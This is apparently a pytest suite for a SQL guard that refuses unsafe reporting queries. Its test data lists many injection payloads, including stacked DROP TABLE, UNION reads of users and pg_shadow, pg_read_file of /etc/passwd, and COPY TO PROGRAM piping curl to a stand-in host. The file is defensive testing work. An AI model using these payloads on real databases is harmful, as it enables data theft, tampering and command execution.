"""The SQL Guard's attack suite (compliance/sqlguard.check, no database): one case per attack, each refused with
the reason that names the rule; and the queries it must keep accepting, rewritten to the reporting schema."""

from __future__ import annotations

import pytest

from compliance.sqlguard import MAX_ROWS, SQLRefused, check

OK = "SELECT machine_id FROM machine_status LIMIT 5"

ATTACKS = {
    "non_select_delete": ("DELETE FROM reporting.machine_status", "write_statement"),
    "non_select_update": ("UPDATE users SET role = 'admin'", "write_statement"),
    "non_select_insert_select": ("INSERT INTO users (username) SELECT machine_id FROM machine_status LIMIT 1",
                                 "write_statement"),
    "non_select_show": ("SHOW eap.tenant_id", "write_statement"),
    "stacked_statements": (f"{OK}; DROP TABLE users", "stacked_statements"),
    "stacked_two_selects": (f"{OK}; {OK}", "stacked_statements"),
    "comment_hiding_statement": ("SELECT machine_id FROM machine_status /* ; DELETE FROM users; */ LIMIT 5",
                                 "comment"),
    "line_comment_hiding_limit": ("SELECT machine_id FROM machine_status -- LIMIT 5\n LIMIT 5", "comment"),
    "nested_comment_differential": ("SELECT machine_id FROM machine_status /* /* */ UNION SELECT username FROM "
                                    "users */ LIMIT 5", "comment"),
    "cte_with_delete": ("WITH gone AS (DELETE FROM users RETURNING username) SELECT machine_id FROM machine_status "
                        "LIMIT 5", "write_statement"),
    "cte_with_update": ("WITH x AS (UPDATE tenants SET name = 'p' RETURNING id) SELECT machine_id FROM "
                        "machine_status LIMIT 5", "write_statement"),
    "cte_read_only": ("WITH x AS (SELECT machine_id FROM machine_status) SELECT machine_id FROM x LIMIT 5", "cte"),
    "pg_sleep": ("SELECT pg_sleep(30), machine_id FROM machine_status LIMIT 5", "function_not_allowed"),
    "dblink": ("SELECT dblink('host=10.0.0.1', 'SELECT 1'), machine_id FROM machine_status LIMIT 5",
               "function_not_allowed"),
    "copy_to_program": ("COPY users TO PROGRAM 'curl http://evil'", "write_statement"),
    "set_config": ("SELECT set_config('eap.tenant_id', '00000000-0000-0000-0000-000000000000', true), machine_id "
                   "FROM machine_status LIMIT 5", "function_not_allowed"),
    "current_setting": ("SELECT current_setting('eap.tenant_id') AS t FROM machine_status LIMIT 5",
                        "function_not_allowed"),
    "pg_read_file": ("SELECT pg_read_file('/etc/passwd') AS f FROM machine_status LIMIT 1", "function_not_allowed"),
    "system_catalog_pg_catalog": ("SELECT rolname FROM pg_catalog.pg_roles LIMIT 5", "system_catalog"),
    "system_catalog_unqualified": ("SELECT usename FROM pg_user LIMIT 5", "system_catalog"),
    "information_schema": ("SELECT table_name FROM information_schema.tables LIMIT 5", "system_catalog"),
    "regclass_cast_probe": ("SELECT CAST('users' AS regclass) AS r FROM machine_status LIMIT 1", "type_not_allowed"),
    "base_table_outside_allow_list": ("SELECT payload FROM mes_observations LIMIT 5", "relation_not_allowed"),
    "public_schema_table": ("SELECT username FROM public.users LIMIT 5", "relation_not_allowed"),
    "unknown_reporting_view": ("SELECT x FROM reporting.secrets LIMIT 5", "relation_not_allowed"),
    "join_to_other_relation": ("SELECT m.machine_id FROM machine_status m JOIN users u ON u.username = m.machine_id "
                               "LIMIT 5", "relation_not_allowed"),
    "union_into_users": ("SELECT machine_id FROM machine_status UNION SELECT username FROM users LIMIT 5",
                         "set_operation"),
    "union_all_into_catalog": ("SELECT machine_id FROM machine_status UNION ALL SELECT passwd FROM pg_shadow LIMIT 5",
                               "set_operation"),
    "subquery_into_users": ("SELECT machine_id FROM machine_status WHERE machine_id IN (SELECT username FROM users) "
                            "LIMIT 5", "subquery"),
    "unicode_escaped_identifier": ('SELECT U&"d\\0061ta" FROM machine_status LIMIT 5', "unicode_escape"),
    "unicode_escaped_table": ('SELECT machine_id FROM U&"\\0075sers" LIMIT 5', "unicode_escape"),
    "unicode_escaped_string": ("SELECT machine_id FROM machine_status WHERE line = U&'L\\0031' LIMIT 5",
                               "unicode_escape"),
    "missing_limit": ("SELECT machine_id FROM machine_status", "limit_required"),
    "huge_limit": ("SELECT machine_id FROM machine_status LIMIT 1000000", "limit_too_large"),
    "limit_all": ("SELECT machine_id FROM machine_status LIMIT ALL", "construct_not_allowed"),
    "limit_expression": ("SELECT machine_id FROM machine_status LIMIT 10 * 100000", "limit_not_literal"),
    "select_into": ("SELECT machine_id INTO stolen FROM machine_status LIMIT 5", "write_statement"),
    "for_update_lock": ("SELECT machine_id FROM machine_status LIMIT 5 FOR UPDATE", "write_statement"),
    "select_star": ("SELECT * FROM machine_status LIMIT 5", "star"),
    "dollar_quoted_string": ("SELECT machine_id FROM machine_status WHERE line = $$L1$$ LIMIT 5",
                             "construct_not_allowed"),
    "table_function": ("SELECT g FROM generate_series(1, 1000000000) AS g LIMIT 5", "function_not_allowed"),
    "current_user": ("SELECT current_user AS u FROM machine_status LIMIT 1", "function_not_allowed"),
    "explain_analyze": ("EXPLAIN ANALYZE SELECT machine_id FROM machine_status LIMIT 5", "write_statement"),
}


@pytest.mark.parametrize("sql,reason", list(ATTACKS.values()), ids=list(ATTACKS))
def test_attack_is_refused_with_its_reason(sql, reason):
    with pytest.raises(SQLRefused) as info:
        check(sql, "admin")
    assert info.value.reason == reason, info.value.message
    assert info.value.status_code == 422 and info.value.details["reason"] == reason


def test_restricted_column_and_view_per_role():
    with pytest.raises(SQLRefused) as info:
        check("SELECT machine_id, reason FROM machine_status LIMIT 5", "viewer")
    assert info.value.reason == "column_not_allowed"
    assert "reason" in check("SELECT machine_id, reason FROM machine_status LIMIT 5", "operator").sql
    with pytest.raises(SQLRefused) as info:
        check("SELECT machine_id FROM machine_status LIMIT 5", "guest")  # not a role at all
    assert info.value.reason == "view_not_allowed"


def test_unknown_column_and_unbound_parameter():
    with pytest.raises(SQLRefused) as info:
        check("SELECT tenant_id FROM machine_status LIMIT 5", "admin")
    assert info.value.reason == "column_not_allowed"
    with pytest.raises(SQLRefused) as info:
        check("SELECT machine_id FROM machine_status WHERE state = :s LIMIT 5", "admin")
    assert info.value.reason == "unbound_parameter"


def test_accepted_queries_are_rewritten_to_the_reporting_schema_with_bound_literals():
    c = check("SELECT line, count(*) AS n FROM machine_status WHERE state = :s GROUP BY line ORDER BY n DESC "
              "LIMIT 10", "viewer", {"s": "DOWN' OR '1'='1"})
    assert "FROM reporting.machine_status" in c.sql
    assert "'DOWN'' OR ''1''=''1'" in c.sql  # the value is one quoted literal, not SQL
    assert c.views == ("machine_status",) and c.limit == 10
    j = check("SELECT m.line, sum(d.duration_minutes) AS minutes FROM machine_status AS m JOIN downtime_events AS d "
              "ON d.machine_id = m.machine_id GROUP BY m.line LIMIT 20", "viewer")
    assert "reporting.machine_status" in j.sql and "reporting.downtime_events" in j.sql
    assert check(f"SELECT report_id FROM quality_reports LIMIT {MAX_ROWS}", "viewer").limit == MAX_ROWS
